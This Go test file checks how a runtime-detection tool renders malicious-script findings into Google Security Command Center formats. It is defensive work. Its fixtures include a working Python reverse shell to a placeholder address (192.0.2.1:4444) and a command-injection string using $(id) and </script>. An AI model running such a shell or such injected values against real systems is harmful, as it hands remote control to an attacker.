package scc_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"flag"
	"math"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	pb "cloud.google.com/go/securitycenter/apiv2/securitycenterpb"
	"github.com/google/go-cmp/cmp"
	"google.golang.org/protobuf/encoding/protojson"

	"kingsnake/finding"
	"kingsnake/finding/scc"
)

var update = flag.Bool("update", false, "rewrite the golden files")

var when = time.Date(2026, 11, 23, 7, 0, 0, 123456000, time.UTC)

func hash(b []byte) string {
	sum := sha256.Sum256(b)
	return hex.EncodeToString(sum[:])
}

// gke is a configuration in which everything is known.
func gke() scc.Config {
	return scc.Config{
		Organization: "123456789012", Project: "demo-project", ProjectNumber: "987654321098",
		Location: "us-central1-a", Cluster: "prod-1", Source: "5678",
		InstanceIDs: map[string]string{"gke-prod-1-pool-1": "1122334455667788990"},
		ConsoleURL:  "https://kingsnake.example.com/", NotificationConfig: "organizations/123456789012/locations/global/notificationConfigs/all",
	}
}

const text = "import os,socket,subprocess\ns=socket.socket()\ns.connect((\"192.0.2.1\",4444))\n" +
	"[os.dup2(s.fileno(),f) for f in (0,1,2)]\nsubprocess.call([\"/bin/sh\",\"-i\"])\n"

// inPod is a script that was a file, in a pod.
func inPod() finding.Finding {
	contents := []byte(text)
	f := finding.Finding{
		Category: finding.MaliciousPython, Severity: finding.Critical, State: finding.Active,
		EventTime: when, FirstTime: when.Add(-time.Hour), CreateTime: when.Add(2 * time.Second), Count: 3,
		Script: finding.Script{
			Kind: "file", Path: "/tmp/.x.py", Contents: contents, ContentsSHA256: hash(contents), SHA256: hash(contents), Size: int64(len(contents)),
			Origin: finding.Origin{When: "runtime", Why: "it was changed after the container was created", Changed: when.Add(-time.Minute)},
		},
		Verdict: finding.Verdict{
			Label: "malicious", Score: 0.9987, Model: "5f3c",
			Reasons: []finding.Reason{
				{Text: "It gives a shell to a remote machine.", Technique: "T1059.004", Weight: 3.5, Spans: []finding.Span{{Start: 28, End: 75, Line: 2, EndLine: 4}}},
				{Text: "It fetches something from the network.", Technique: "T1105", Weight: 1.25},
				{Text: "It has no name in SCC.", Technique: "T9999", Weight: 0.5},
			},
		},
		Process: finding.Process{
			PID: 4711, PPID: 4702, Start: when.Add(-time.Second), UID: 1000, Comm: "python3", Exe: "/usr/local/bin/python3.12", Cwd: "/srv",
			Args: []string{"python3", "/tmp/.x.py", "a \"b\""}, Env: []string{"PATH=/usr/local/bin:/usr/bin", "LANG=C.UTF-8"},
			ExeSHA256: strings.Repeat("a", 64), ExeSize: 14568,
			Parents: []finding.Process{{PID: 4702, Comm: "sh", Exe: "/bin/dash", Args: []string{"sh", "-c", "python3 /tmp/.x.py"}}},
		},
		Workload: finding.Workload{
			ContainerID: strings.Repeat("c", 64), ContainerName: "web", ContainerCreated: when.Add(-13 * time.Hour),
			Image: "ghcr.example.com/demo/web:1.4.2", ImageID: "sha256:" + strings.Repeat("b", 64), Runtime: "containerd", ReadOnlyRoot: "no",
			PodNamespace: "shop", PodName: "web-7c966b5d85-wvtln", PodUID: "0b5c1d2e-3f4a-5b6c-7d8e-9f0a1b2c3d4e",
			PodLabels: map[string]string{"app": "web", "tier": "front"}, OwnerKind: "Deployment", OwnerName: "web", Node: "gke-prod-1-pool-1",
		},
		Indicators: finding.Indicators{IPs: []string{"192.0.2.1"}},
		Sensor:     "gke-prod-1-pool-1",
	}
	return named(f)
}

// command is python3 -c, in the same pod.
func command() finding.Finding {
	f := inPod()
	f.Script.Kind, f.Script.Path = "c", ""
	f.Script.Origin = finding.Origin{When: "argument", Why: "it was an argument of the interpreter"}
	f.Process.Args = []string{"python3", "-c", text}
	return named(f)
}

// stdin is a text on standard input, on a host, cut short, redacted, and not
// all of it UTF-8.
func stdin() finding.Finding {
	f := inPod()
	contents := []byte("# caf\xe9\npassword = '[redacted:password:f52fbd32]'\n")
	f.Script = finding.Script{
		Kind: "stdin", Contents: contents, ContentsSHA256: hash(contents), SHA256: strings.Repeat("d", 64), Size: 70000,
		Truncated: true, Redacted: 1, Lost: "ring full", Origin: finding.Origin{When: "stream", Why: "it came on standard input"},
		Layers: []finding.Layer{{Transform: "base64", Text: []byte("x"), Size: 12}}, LayersOmitted: 2,
	}
	f.Verdict.Label, f.Severity = "suspicious", finding.Medium
	f.Process.Args, f.Process.Env = []string{"python3", "-"}, []string{"NAME=\xff\xfe"}
	f.Process.ExeSHA256, f.Process.ExeUnread = "", "permission denied"
	f.Workload = finding.Workload{Node: "build-7", Unresolved: map[string]string{"container.name": "no runtime answered"}}
	return named(f)
}

// program is a shell on a connection, in the same pod.
func program() finding.Finding {
	f := inPod()
	f.Category = finding.ReverseShell
	f.Process.Exe, f.Process.Comm, f.Process.Args = "/bin/bash", "bash", []string{"bash", "-i"}
	f.Process.Parents = []finding.Process{{PID: 4702, Comm: "python3", Exe: "/usr/local/bin/python3.12", Args: []string{"python3", "/srv/app.py"}}}
	f.Script = finding.Script{
		Kind: finding.Program, Path: "/bin/bash", SHA256: finding.ProgramDigest(f.Category, "/bin/bash", "/usr/local/bin/python3.12"),
		ContentsSHA256: hash(nil), Size: 14568, Parent: strings.Repeat("e", 64),
		Origin: finding.Origin{When: "image", Why: "it was changed before the container was created", Changed: when.Add(-100 * time.Hour)},
	}
	f.Verdict = finding.Verdict{Label: "malicious", Reasons: []finding.Reason{
		{Text: "The standard input of this shell is a connection with 192.0.2.1:4444.", Technique: "T1059.004", Weight: 1}}}
	f.Connections = []finding.Connection{{Local: "10.1.2.3:51234", Peer: "192.0.2.1:4444"}, {Peer: "[2001:db8::7]:443"}}
	f.Timeline = []finding.Event{
		{Time: when.Add(time.Second), PID: 4720, Exe: "/bin/bash", Act: "executed", Target: "/usr/bin/curl", Args: []string{"curl", "\xff"}, Count: 1},
		{Time: when.Add(2 * time.Second), PID: 4720, Exe: "/usr/bin/curl", Act: "wrote", Target: "/tmp/.a", Count: 2},
	}
	f.TimelineOmitted = 1
	return named(f)
}

func named(f finding.Finding) finding.Finding {
	f.Name = finding.NameOf(f.Category, f.Script.Kind, f.Script.SHA256, f.Workload.Key(f.Process.Exe))
	return f
}

// cases are the findings that have golden files.
func cases() map[string]struct {
	finding finding.Finding
	config  scc.Config
} {
	return map[string]struct {
		finding finding.Finding
		config  scc.Config
	}{
		"file-pod":      {inPod(), gke()},
		"command-pod":   {command(), gke()},
		"stdin-host":    {stdin(), scc.Config{}},
		"file-cluster":  {inPod(), scc.Config{Cluster: "lab"}},
		"file-no-names": {inPod(), scc.Config{}},
		"program-pod":   {program(), gke()},
	}
}

// render gives every form of a finding by its file's name.
func render(t *testing.T, f finding.Finding, cfg scc.Config) map[string][]byte {
	t.Helper()
	out := map[string][]byte{}
	var err error
	if out["notification"], err = scc.NotificationJSON(f, cfg); err != nil {
		t.Fatal(err)
	}
	if out["legacy"], err = scc.LegacyJSON(f, cfg); err != nil {
		t.Fatal(err)
	}
	var links bytes.Buffer
	enc := json.NewEncoder(&links)
	enc.SetEscapeHTML(false)
	enc.SetIndent("", "  ")
	if err := enc.Encode(scc.LinksOf(f, cfg)); err != nil {
		t.Fatal(err)
	}
	out["links"] = links.Bytes()
	return out
}

func TestGoldenFiles(t *testing.T) {
	t.Parallel()
	all := cases()
	all["sensor-silent"] = struct {
		finding finding.Finding
		config  scc.Config
	}{silent(), gke()}
	for name, tt := range all {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			for form, got := range render(t, tt.finding, tt.config) {
				path := filepath.Join("testdata", name+"."+form+".json")
				if *update {
					if err := os.WriteFile(path, got, 0o644); err != nil {
						t.Fatal(err)
					}
				}
				want, err := os.ReadFile(path)
				if err != nil {
					t.Fatal(err)
				}
				if diff := cmp.Diff(string(want), string(got)); diff != "" {
					t.Errorf("%s (-want +got):\n%s", path, diff)
				}
			}
		})
	}
}

func TestGooglesOwnTypesReadWhatWeWrite(t *testing.T) {
	t.Parallel()
	for name, tt := range cases() {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			body, err := scc.NotificationJSON(tt.finding, tt.config)
			if err != nil {
				t.Fatal(err)
			}
			var message pb.NotificationMessage
			if err := (protojson.UnmarshalOptions{}).Unmarshal(body, &message); err != nil {
				t.Fatal(err)
			}
			one, err := scc.V2JSON(tt.finding, tt.config)
			if err != nil {
				t.Fatal(err)
			}
			var f pb.Finding
			if err := (protojson.UnmarshalOptions{}).Unmarshal(one, &f); err != nil {
				t.Fatal(err)
			}
			if tt.finding.Script.Kind == finding.Program {
				if f.Processes[0].Script != nil || len(f.Connections) != len(tt.finding.Connections) {
					t.Errorf("want no script and all connections, got %v and %v", f.Processes[0].Script, f.Connections)
				}
				return
			}
			script, err := scc.Decode(f.Processes[0].Script.Contents)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.finding.Script.Contents, script); diff != "" {
				t.Errorf("contents (-want +got):\n%s", diff)
			}
			if got := f.Processes[0].Script; got.Sha256 != hash(script) || got.HashedSize != int64(len(script)) {
				t.Errorf("the hash is not of the contents: %v", got)
			}
			legacy, err := scc.LegacyJSON(tt.finding, tt.config)
			if err != nil {
				t.Fatal(err)
			}
			if !json.Valid(legacy) {
				t.Error("the legacy form is no JSON")
			}
		})
	}
}

// seedPaths are the values that SCC's page on this finding tells an analyst to
// look at, in its own words, and where each is found. "fileOnly" are those it
// says exist only for scripts on disk.
var seedPaths = []struct {
	wording, form, path string
	fileOnly            bool
}{
	{"Binário do programa: detalhes sobre o interpretador que invocou o script", "legacy", "finding.processes.0.binary.path", false},
	{"Script: caminho absoluto do nome do script no disco", "legacy", "finding.processes.0.script.path", true},
	{"Argumentos: os argumentos fornecidos ao invocar o script", "legacy", "finding.processes.0.args.0", false},
	{"Recurso afetado: Nome completo do recurso", "legacy", "resource.name", false},
	{"Nome completo do recurso, na API", "notification", "finding.resourceName", false},
	{"Indicador do VirusTotal: link para a página de análise do VirusTotal", "links", "VirusTotal.0.URL", false},
	{"finding: processes", "legacy", "finding.processes.0.name", false},
	{"script: contents: o conteúdo do script executado", "legacy", "finding.processes.0.script.contents", false},
	{"script: sha256: o hash SHA-256 de script.contents", "legacy", "finding.processes.0.script.sha256", false},
	{"finding.processes.script.contents, na API", "notification", "finding.processes.0.script.contents", false},
	{"finding.processes.script.sha256, na API", "notification", "finding.processes.0.script.sha256", false},
	{"resource: project_display_name: o nome do projeto que contém o recurso", "legacy", "resource.project_display_name", false},
	{"o nome do projeto, na API", "notification", "resource.gcpMetadata.projectDisplayName", false},
	{"sourceProperties: Pod_Namespace: o nome do namespace do Kubernetes do pod", "legacy", "sourceProperties.Pod_Namespace", false},
	{"sourceProperties: Pod_Name: o nome do pod do GKE", "legacy", "sourceProperties.Pod_Name", false},
	{"sourceProperties: Container_Name: o nome do contêiner afetado", "legacy", "sourceProperties.Container_Name", false},
	{"sourceProperties: Container_Image_Uri: o nome da imagem do contêiner", "legacy", "sourceProperties.Container_Image_Uri", false},
	{"sourceProperties: VM_Instance_Name: o nome do nó do GKE", "legacy", "sourceProperties.VM_Instance_Name", false},
	{"sourceProperties, na API", "notification", "finding.sourceProperties.Pod_Name", false},
	{"Filtre no cluster listado em resource.name", "notification", "resource.name", false},
	{"resource.labels.location", "notification", "resource.location", false},
	{"resource.labels.cluster_name", "notification", "resource.displayName", false},
	{"filtro: registros de pods", "links", "Filters.0.Lines.5", false},
	{"filtro: registros de auditoria do cluster", "links", "Filters.1.Lines.0", false},
	{"filtro: registros do console do nó; container.googleapis.com/instance_id", "links", "Filters.2.Lines.1", false},
	{"Acesse Clusters do Kubernetes", "links", "Cloud.0.URL", false},
	{"Acesse Cargas de trabalho do Kubernetes", "links", "Cloud.1.URL", false},
	{"Acessar o Explorador de registros", "links", "Cloud.2.URL", false},
	{"Conecte-se ao ambiente do contêiner", "links", "Commands.8.Line", false},
	{"MITRE ATT&CK: Intérprete de comandos e scripts", "legacy", "finding.mitreAttack.primaryTechniques.0", false},
	{"MITRE ATT&CK: Transferência de ferramentas de entrada", "links", "ATTACK.2.URL", false},
}

func TestEveryPathOfTheRunbookResolves(t *testing.T) {
	t.Parallel()
	for name, f := range map[string]finding.Finding{"a file": inPod(), "a literal": command()} {
		forms := render(t, f, gke())
		for _, p := range seedPaths {
			t.Run(name+"/"+p.wording, func(t *testing.T) {
				t.Parallel()
				got := resolve(t, forms[p.form], p.path)
				if p.fileOnly && f.Script.Path == "" {
					if got != "" {
						t.Errorf("%s %s = %q, want nothing: there is no file", p.form, p.path, got)
					}
					return
				}
				if got == "" || strings.Contains(got, scc.Unknown) {
					t.Errorf("%s %s = %q, want a value", p.form, p.path, got)
				}
			})
		}
	}
}

// resolve walks a path of keys and indices and returns the string there, or "".
func resolve(t *testing.T, doc []byte, path string) string {
	t.Helper()
	var v any
	if err := json.Unmarshal(doc, &v); err != nil {
		t.Fatal(err)
	}
	for key := range strings.SplitSeq(path, ".") {
		switch at := v.(type) {
		case map[string]any:
			v = at[key]
		case []any:
			var i int
			if err := json.Unmarshal([]byte(key), &i); err != nil || i >= len(at) {
				return ""
			}
			v = at[i]
		}
	}
	s, _ := v.(string)
	return s
}

func TestEveryCategoryHasItsOwnWords(t *testing.T) {
	t.Parallel()
	seen := map[string]finding.Category{}
	for _, c := range []finding.Category{finding.MaliciousPython, finding.AddedBinary, finding.FilelessExecution, finding.ReverseShell, finding.UnexpectedChildShell} {
		f := program()
		f.Category, f.Verdict.Reasons, f.Process.Exe = c, nil, ""
		got := scc.V2(f, gke())
		for _, words := range []string{got.Description, got.ModuleName} {
			if other, ok := seen[words]; ok || words == "" {
				t.Errorf("%s says %q, like %q", c, words, other)
			}
			seen[words] = c
		}
		if len(got.MitreAttack.PrimaryTechniques) == 0 || len(scc.LinksOf(f, gke()).ATTACK) == 0 {
			t.Errorf("%s names no technique", c)
		}
	}
}

func TestPropertyKeysAreThoseSCCAllows(t *testing.T) {
	t.Parallel()
	allowed := regexp.MustCompile(`^[A-Za-z][A-Za-z0-9_]{0,254}$`)
	for _, tt := range cases() {
		for key := range scc.V2(tt.finding, tt.config).SourceProperties {
			if !allowed.MatchString(key) {
				t.Errorf("key %q", key)
			}
		}
	}
}

func TestHashesSayWhatTheyCover(t *testing.T) {
	t.Parallel()
	redacted := inPod()
	redacted.Script.SHA256 = strings.Repeat("e", 64)
	listed := inPod()
	listed.Script.Contents = nil
	tests := map[string]struct {
		in      finding.Finding
		partial bool
		hashed  int64
	}{
		"the whole script":            {inPod(), false, int64(len(text))},
		"a prefix":                    {stdin(), true, int64(len(stdin().Script.Contents))},
		"secrets replaced":            {redacted, true, int64(len(text))},
		"listed without the contents": {listed, false, 0},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := scc.V2(tt.in, scc.Config{}).Processes[0].Script
			if s.PartiallyHashed != tt.partial || s.HashedSize != tt.hashed {
				t.Errorf("partiallyHashed %v, hashedSize %d; want %v, %d", s.PartiallyHashed, s.HashedSize, tt.partial, tt.hashed)
			}
			if s.Sha256 != tt.in.Script.ContentsSHA256 {
				t.Errorf("sha256 %s, want that of the contents, %s", s.Sha256, tt.in.Script.ContentsSHA256)
			}
		})
	}
}

func TestALongScriptsHashIsNotOfferedToVirusTotal(t *testing.T) {
	t.Parallel()
	f := inPod()
	f.Script.Size = 9 << 20
	links := scc.LinksOf(f, gke()).VirusTotal
	if len(links) != 1 || !strings.HasSuffix(links[0].URL, f.Process.ExeSHA256) {
		t.Errorf("links %v, want the binary's alone", links)
	}
}

func TestTechniquesComeWithTheirParents(t *testing.T) {
	t.Parallel()
	m := scc.V2(inPod(), gke()).MitreAttack
	want := []pb.MitreAttack_Technique{pb.MitreAttack_UNIX_SHELL, pb.MitreAttack_INGRESS_TOOL_TRANSFER}
	if diff := cmp.Diff(want, m.AdditionalTechniques); diff != "" {
		t.Errorf("techniques (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff([]pb.MitreAttack_Tactic{pb.MitreAttack_COMMAND_AND_CONTROL}, m.AdditionalTactics); diff != "" {
		t.Errorf("tactics (-want +got):\n%s", diff)
	}
}

func TestHostileValuesNeverBreakADocument(t *testing.T) {
	t.Parallel()
	const evil = "\xff\x00</script>\n\"'$(id)`\\\u202e"
	f := inPod()
	f.Script.Path, f.Process.Exe, f.Process.Comm, f.Process.Cwd = evil, evil, evil, evil
	f.Process.Args, f.Process.Env = []string{evil}, []string{evil + "=" + evil}
	f.Workload.PodName, f.Workload.PodNamespace, f.Workload.ContainerName = evil, evil, evil
	f.Workload.Image, f.Workload.Node, f.Workload.Cluster, f.Workload.OwnerKind, f.Workload.OwnerName = evil, evil, evil, evil, evil
	f.Workload.PodLabels, f.Workload.Unresolved = map[string]string{evil: evil}, map[string]string{evil: evil}
	f.Verdict.Reasons = []finding.Reason{{Text: evil, Technique: evil, Weight: math.NaN()}}
	f.Verdict.Score = math.Inf(1)
	f.Connections = []finding.Connection{{Local: evil, Peer: evil}}
	f.Timeline = []finding.Event{{Time: time.Date(12000, 1, 1, 0, 0, 0, 0, time.UTC), Exe: evil, Act: "wrote", Target: evil, Args: []string{evil}}}
	f.Indicators = finding.Indicators{IPs: []string{evil}, Domains: []string{evil}, URLs: []string{evil}}
	f.Name, f.Category, f.Sensor, f.Severity, f.State = evil, evil, evil, evil, evil
	f.Script.SHA256, f.Process.ExeSHA256, f.Script.Origin = evil, evil, finding.Origin{When: evil, Why: evil}
	f.EventTime = time.Date(12000, 1, 1, 0, 0, 0, 0, time.UTC)
	for form, got := range render(t, f, gke()) {
		if !json.Valid(got) {
			t.Errorf("%s is no JSON", form)
		}
		if form == "notification" {
			if err := protojson.Unmarshal(got, &pb.NotificationMessage{}); err != nil {
				t.Error(err)
			}
		}
	}
	m := scc.V2(f, gke())
	path, err := scc.Decode(m.Processes[0].Script.Path)
	if err != nil || string(path) != evil {
		t.Errorf("path %q, %v; want it byte for byte", path, err)
	}
	if strings.ContainsAny(m.Name[len("organizations/"):], " \"'\n<") {
		t.Errorf("name %q", m.Name)
	}
	for _, l := range scc.LinksOf(f, gke()).VirusTotal {
		t.Errorf("link %v to what is no hash", l)
	}
}

func FuzzRenderings(f *testing.F) {
	for _, tt := range cases() {
		b, err := json.Marshal(tt.finding)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(b, "p", "l")
	}
	f.Fuzz(func(t *testing.T, b []byte, project, location string) {
		var in finding.Finding
		if json.Unmarshal(b, &in) != nil {
			t.Skip()
		}
		cfg := scc.Config{Project: project, Location: location, Cluster: project, ConsoleURL: location, NotificationConfig: project}
		first, second := render(t, in, cfg), render(t, in, cfg)
		for form, doc := range first {
			if !json.Valid(doc) || !bytes.Equal(doc, second[form]) {
				t.Errorf("%s is no JSON, or not the same twice", form)
			}
		}
		if err := protojson.Unmarshal(first["notification"], &pb.NotificationMessage{}); err != nil {
			t.Error(err)
		}
	})
}
